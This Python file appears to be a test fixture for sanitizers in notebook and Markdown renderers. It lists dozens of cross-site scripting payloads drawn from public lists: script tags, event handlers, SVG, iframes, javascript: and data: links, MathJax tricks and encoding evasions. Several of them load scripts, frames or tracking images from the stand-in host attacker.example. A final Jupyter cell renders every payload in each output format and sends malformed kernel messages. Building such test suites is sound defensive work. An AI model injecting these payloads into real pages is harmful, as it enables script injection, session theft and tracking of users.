"""Published ways to smuggle a program into a page, as a student could hand them in.

From OWASP's and PortSwigger's lists and from advisories on Markdown, MathJax and
notebooks. Each shows a dialog or asks a server for something.
"""

import base64

SERVER = "http://attacker.example"
_CODE = "".join(f"&#{ord(letter)};" for letter in "javascript:alert(1)")
_HEX = "".join(f"&#x{ord(letter):x}" for letter in "javascript:alert(1)")
_PAGE = base64.b64encode(b"<script>alert(1)</script>").decode()

TEXTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    f"<script src={SERVER}/a.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "</p></div></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml?><script>alert(1)</script>",
    "<textarea><title></textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    '&lt;img src=1 onerror=alert(1)&gt;">',
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)//",
    "<img/src='x'/onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    f'<img src="{SERVER}/seen.png" srcset="{SERVER}/2.png 2x">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//<",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>see</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    f'<iframe src="{SERVER}/frame"></iframe>',
    f'<object data="data:text/html;base64,{_PAGE}"></object>',
    f'<embed src="data:text/html;base64,{_PAGE}">',
    f'<object data="{SERVER}/object"></object><embed src="{SERVER}/embed">',
    f'<meta http-equiv="refresh" content="0;url={SERVER}/refresh">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    f'<base href="{SERVER}/">',
    f'<link rel=stylesheet href="{SERVER}/a.css">',
    f"<style>@import '{SERVER}/b.css'; body {{background: url({SERVER}/c)}}</style>",
    f'<p style="background:url({SERVER}/d); width: expression(alert(1))">text</p>',
    f'<form action="{SERVER}/form"><input type=submit autofocus></form>',
    '<form><button formaction="javascript:alert(1)">send</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus></select>",
    "<details open ontoggle=alert(1)>text</details>",
    "<video><source onerror=alert(1)></video>",
    f'<video poster="{SERVER}/poster" src="{SERVER}/film"></video>',
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>text</marquee>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<style>@keyframes x{}</style>"
    "<b style='animation-name:x' onanimationstart=alert(1)>",
    "<div onmouseover=alert(1) style='position:fixed;inset:0'>text</div>",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="jav&#x09;ascript:alert(1)">link</a>',
    f'<a href="{_CODE}">link</a> <a href="{_HEX}">link</a>',
    f'<a ping="{SERVER}/ping" href="data:text/html;base64,{_PAGE}">link</a>',
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert`1`)",
    f"[link]({_CODE})",
    "[link](  java\tscript:alert(1))",
    f"[link](data:text/html;base64,{_PAGE})",
    '[link](x "onmouseover=alert(1) \\")',
    '[link](x"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    f"![seen]({SERVER}/markdown.png)",
    '![x](x"onerror="alert(1))',
    f"![seen][a]\n\n[a]: {SERVER}/reference.png",
    "[link][b]\n\n[b]: javascript:alert(1)",
    f"{SERVER}/auto-link www.attacker.example",
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>",
    "`` ` ``<script>alert(1)</script>`",
    "<a title='`'><img src=x onerror=alert(1)>`",
    "<b title='\n\n<script>alert(1)</script>'>",
    "    code\n\n<script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>\n\n- <svg onload=a>",
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\require{html}\style{background:url(" + SERVER + r"/e)}{x}$$",
    r"\(\unicode{60}\text{<img src=x onerror=alert(1)>}\)",
    r"$<img src=x onerror=alert(1)>$ $$</div><script>alert(1)</script>$$",
    r"\begin{equation}\cssId{a}{\class{b}{<script>alert(1)</script>}}\end{equation}",
    "&lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cscript\\x3ealert(1)",
    "{{ '<script>alert(1)</script>' | safe }} {% raw %}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞ <\x00script>alert(1)</script>",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\x1b[31m<script>alert(1)</script>",
]

# Shows each of them in every way that a kernel knows, and sends what none would.
CELL = f"""
import IPython
for text in {TEXTS!r}:
    print(text)
    for kind in ("html", "markdown", "latex", "javascript"):
        name = "application/javascript" if kind == "javascript" else f"text/{{kind}}"
        code = "alert(1)" if kind == "javascript" else text
        IPython.display.display({{name: code, "text/plain": text}}, raw=True)
    for name in ("image/svg+xml", "image/png", "image/jpeg", "application/pdf"):
        IPython.display.display({{name: f'x">{{text}}'}}, raw=True)
widgets = "application/vnd.jupyter.widget-view+json"
IPython.display.display({{widgets: {{"model_id": "</script>" + text}}}}, raw=True)
kernel, shout = get_ipython().kernel, "'\\"><script>alert(1)</script>"
size = {{"image/png": {{"width": shout}}}}
picture = {{"data": {{"image/png": shout}}, "metadata": size}}
result = {{"data": {{"text/plain": shout}}, "metadata": {{}}, "execution_count": shout}}
for kind, content in [
    ("stream", {{"name": shout, "text": shout}}),
    ("display_data", picture),
    ("execute_result", result),
    ("error", {{"ename": shout, "evalue": shout, "traceback": [shout]}}),
    ("execute_input", {{"code": "", "execution_count": shout}}),
]:
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
raise RuntimeError(shout)
"""
